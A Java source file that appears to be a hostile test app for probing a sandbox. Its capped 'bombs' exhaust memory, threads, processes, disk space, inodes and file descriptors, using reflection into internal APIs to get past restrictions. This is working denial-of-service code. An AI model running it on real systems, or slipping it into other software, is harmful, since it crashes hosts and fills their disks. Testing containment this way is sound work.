package dev.fewtaps.samples.hostile;

import java.io.OutputStream;
import java.util.ArrayList;
import java.util.List;

/** Uses up what the machine has: memory, threads, processes, disks, open files. Each bomb stops by itself at last. */
final class Bombs {
  private static final long CHUNK_BYTES = 16L << 20;
  private static final long MEMORY_BYTES = 3L << 30;
  private static final int MOST_THREADS = 20_000;
  private static final int MOST_PROCESSES = 600;
  private static final int MOST_FILES = 3_000_000;
  private static final String[] DISKS = {
    "/data", "/mnt", "/sdcard", "/storage", "/tmp", "/dev/shm", "/twin", "/twin/data", "/", "/var/tmp",
  };

  private Bombs() {}

  /** Memory beside the heap. An error is not caught: it is the app's own crash. */
  static void offHeap(Outcomes outcomes) {
    outcomes.attempt("take 3 GB beside the heap", () -> {
      Object unsafe = Beyond.unsafe();
      long taken = 0;
      for (; taken < MEMORY_BYTES; taken += CHUNK_BYTES) {
        long address = (Long) Beyond.call(unsafe, "allocateMemory", CHUNK_BYTES);
        Beyond.call(unsafe, "setMemory", address, CHUNK_BYTES, (byte) 1);
      }
      return (taken >> 20) + " MB";
    });
  }

  /** Memory that counts for no process: a shared mapping of a device that gives zeros. */
  static void sharedMemory(Outcomes outcomes) {
    outcomes.attempt("take 3 GB of shared memory", () -> {
      Object file = Beyond.make("java.io.RandomAccessFile", "/dev/zero", "rw");
      Object channel = Beyond.call(file, "getChannel");
      Object unsafe = Beyond.unsafe();
      long taken = 0;
      for (; taken < MEMORY_BYTES; taken += 16 * CHUNK_BYTES) {
        // Protection 1 means shared and writable.
        long address = (Long) Beyond.call(channel, "map0", 1, 0L, 16 * CHUNK_BYTES, false);
        Beyond.call(unsafe, "setMemory", address, 16 * CHUNK_BYTES, (byte) 1);
      }
      return (taken >> 20) + " MB";
    });
  }

  /** Threads that the twin does not know, with the smallest stacks. */
  static void threads(Outcomes outcomes) {
    outcomes.attempt("start " + MOST_THREADS + " threads", () -> {
      int started = 0;
      for (; started < MOST_THREADS; started++) {
        Runnable sleeper = () -> park();
        Object group = Beyond.call(Thread.currentThread(), "getThreadGroup");
        Object thread = Beyond.make("java.lang.Thread", group, sleeper, "bomb", 1L << 10);
        Beyond.call(thread, "setDaemon", true);
        Beyond.call(thread, "start");
      }
      return started + " threads";
    });
  }

  private static void park() {
    try {
      while (true) {
        Beyond.call(Beyond.type("java.util.concurrent.locks.LockSupport"), "parkNanos", 1_000_000_000L);
      }
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  static void processes(Outcomes outcomes) {
    outcomes.attempt("start " + MOST_PROCESSES + " processes", () -> {
      String java = Beyond.property("java.home") + "/bin/java";
      int started = 0;
      for (int i = 0; i < MOST_PROCESSES; i++) {
        for (String program : new String[] {java, "/bin/sh", "/lib64/ld-linux-x86-64.so.2"}) {
          try {
            Beyond.call(Beyond.make("java.lang.ProcessBuilder", (Object) new String[] {program}), "start");
            started++;
          } catch (Exception e) {
            continue;
          }
        }
      }
      if (started == 0) {
        throw new IllegalStateException("none");
      }
      return started + " processes";
    });
  }

  static void disks(Outcomes outcomes) {
    for (String disk : DISKS) {
      outcomes.attempt("fill " + disk, () -> {
        byte[] block = new byte[1 << 20];
        int written = 0;
        try (OutputStream out = Beyond.output(disk + "/" + FileAttacks.CANARY + "-bomb")) {
          for (; written < 4096; written++) {
            out.write(block);
          }
        }
        return written + " MB";
      });
    }
  }

  /** Empty files: each takes memory of the kernel, and none of the size of a disk. */
  static void inodes(Outcomes outcomes) {
    outcomes.attempt("make " + MOST_FILES + " files", () -> {
      Object[] files = {Beyond.anyField(Beyond.type("java.io.File"), "fs", "FS")};
      int made = 0;
      for (; made < MOST_FILES; made++) {
        Beyond.call(files[0], "createFileExclusively", "/tmp/" + FileAttacks.CANARY + made);
      }
      return made + " files";
    });
  }

  static void descriptors(Outcomes outcomes) {
    outcomes.attempt("open 100000 files", () -> {
      List<Object> opened = new ArrayList<>();
      try {
        while (opened.size() < 100_000) {
          opened.add(Beyond.input("/dev/null"));
        }
        return opened.size() + " files";
      } finally {
        for (Object file : opened) {
          Beyond.close(file);
        }
      }
    });
  }
}
